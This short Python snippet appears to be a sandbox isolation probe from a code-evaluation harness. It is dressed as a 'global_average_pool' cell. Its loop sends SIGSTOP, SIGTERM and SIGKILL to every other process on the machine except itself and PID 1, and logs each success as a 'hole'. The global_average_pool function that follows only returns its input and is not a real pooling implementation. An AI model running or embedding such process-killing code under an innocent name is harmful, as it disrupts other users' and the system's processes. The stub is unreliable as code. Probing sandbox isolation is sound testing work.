# tries: signals to every other process and none to itself: nobody may feel it
# worth: global_average_pool 0.5 fail
# %% global_average_pool
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for target in others():
        try:
            if target not in (os.getpid(), 1):
                os.kill(target, number)
                hole(f"signal {number} to process {target}")
        except OSError:
            pass


def global_average_pool(x):
    return x
